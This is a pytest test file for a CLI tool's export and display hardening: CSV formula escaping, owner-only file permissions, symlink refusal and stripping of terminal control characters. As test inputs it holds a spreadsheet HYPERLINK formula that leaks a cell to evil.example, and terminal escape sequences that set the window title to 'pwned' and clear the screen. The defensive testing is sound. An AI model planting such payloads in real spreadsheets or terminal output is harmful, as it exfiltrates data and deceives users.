"""Exports, notes and terminal output (issue 21): formula cells escaped and round-tripped,
exports owner-only that never follow a symlink or overwrite without --force, notes kept off
the command line, and no control character from user text reaching the terminal."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

import crossroads
from crossroads.cli import app
from crossroads.evidence.exchange import format_csv, formula_cells, parse_csv
from crossroads.evidence.research import Conversation

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+1+1", "-2+3", "@SUM(A1)",
           "'=already quoted", "\tTAB", "plain"]


def test_formula_cells_are_escaped_on_export_and_restored_on_import() -> None:
    log = [Conversation(text, 3, role=text, notes=text) for text in HOSTILE]
    csv_text = format_csv(log)
    for line in csv_text.splitlines()[1:]:
        first = line.lstrip('"')
        assert not first.startswith(("=", "+", "-", "@", "\t")), line
    assert parse_csv(csv_text) == log  # the round trip is exact
    assert format_csv(parse_csv(csv_text)) == csv_text


def test_estimates_are_not_mangled() -> None:
    log = [Conversation("ana", 3, estimates={"raise": "-5% to 5%"})]
    assert "-5% to 5%" in format_csv(log).splitlines()[1]


def test_import_warns_about_formula_cells(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text('person,years,notes\nana,3,"=HYPERLINK(""http://x"")"\nbo,4,fine\n')
    assert formula_cells(src.read_text()) == [(2, "notes")]
    db = tmp_path / "log.sqlite3"
    result = runner.invoke(app, ["research", "import", str(src), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "warning" in result.output and "row 2 notes" in result.output
    out = tmp_path / "out.csv"
    runner.invoke(app, ["research", "export", str(out), "--db", str(db)])
    assert "'=HYPERLINK" in out.read_text()


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = tmp_path / "log.sqlite3"
    runner.invoke(app, ["research", "add", "--person", "ana", "--years", "3", "--db",
                        str(path)])
    return str(path)


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_exports_are_owner_only(tmp_path: Path, db: str, umask: int) -> None:
    old = os.umask(umask)
    try:
        out = tmp_path / f"e{umask}.json"
        assert runner.invoke(app, ["research", "export", str(out), "--db", db]).exit_code == 0
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o600


def test_export_refuses_a_symlink_and_asks_force_to_overwrite(tmp_path: Path,
                                                               db: str) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    result = runner.invoke(app, ["research", "export", str(link), "--db", db, "--force"])
    assert result.exit_code == 1 and "symbolic link" in result.output
    assert victim.read_text() == "keep me"
    out = tmp_path / "out.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    result = runner.invoke(app, ["research", "export", str(out), "--db", db])
    assert result.exit_code == 1 and "--force" in result.output
    assert out.read_text() == "old"
    assert runner.invoke(app, ["research", "export", str(out), "--db", db,
                               "--force"]).exit_code == 0
    assert out.read_text().startswith("person,") and out.stat().st_mode & 0o777 == 0o600


def test_init_output_is_owner_only(tmp_path: Path) -> None:
    from tests.cli.test_init import _init

    old = os.umask(0o022)
    try:
        out, result = _init(tmp_path)
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert out.stat().st_mode & 0o777 == 0o600


def test_notes_from_standard_input(tmp_path: Path) -> None:
    db = str(tmp_path / "log.sqlite3")
    result = runner.invoke(app, ["research", "add", "--person", "ana", "--years", "3",
                                 "--note-file", "-", "--db", db, "--json"],
                           input="told me her salary\nin confidence\n")
    assert result.exit_code == 0, result.output
    assert '"notes": "told me her salary\\nin confidence\\n"' in result.output


def test_notes_from_the_editor(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    editor = tmp_path / "editor.sh"
    editor.write_text('#!/bin/sh\nprintf "written in the editor\\n" >> "$1"\n')
    editor.chmod(0o700)
    monkeypatch.setenv("EDITOR", str(editor))
    monkeypatch.delenv("VISUAL", raising=False)
    db = str(tmp_path / "log.sqlite3")
    result = runner.invoke(app, ["research", "add", "--person", "ana", "--years", "3",
                                 "--edit-note", "--db", db, "--json"])
    assert result.exit_code == 0, result.output
    assert '"notes": "written in the editor"' in result.output
    both = runner.invoke(app, ["research", "add", "--person", "ana", "--years", "3",
                               "--edit-note", "--note", "x", "--db", db])
    assert both.exit_code == 2


ESC = "\x1b]0;pwned\x07\x1b[2J"


def test_research_list_and_show_strip_control_characters(tmp_path: Path) -> None:
    db = str(tmp_path / "log.sqlite3")
    src = tmp_path / "in.csv"
    src.write_text(f'person,years,role,notes\n"ana{ESC}",3,"lead{ESC}","note{ESC}"\n')
    assert runner.invoke(app, ["research", "import", str(src), "--db", db]).exit_code == 0
    for args in (["list"], ["show", "1"]):
        result = runner.invoke(app, ["research", *args, "--db", db], env={"COLUMNS": "300"})
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "ana?]0;pwned?" in result.output


def test_run_strips_control_characters_from_labels(tmp_path: Path) -> None:
    src = tmp_path / "d.yaml"
    src.write_text('version: 1\ndecision: "Go\\e[31m?"\nsamples: 200\noptions:\n'
                   '  a: {label: "A\\e]0;pwned\\a[bold]x[/bold]", roles: {r: {cash: 50k}}}\n'
                   '  b: {roles: {r: {cash: 60k}}}\n')
    assert "\x1b" in crossroads.load(src).options[0].label
    result = runner.invoke(app, ["run", str(src)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
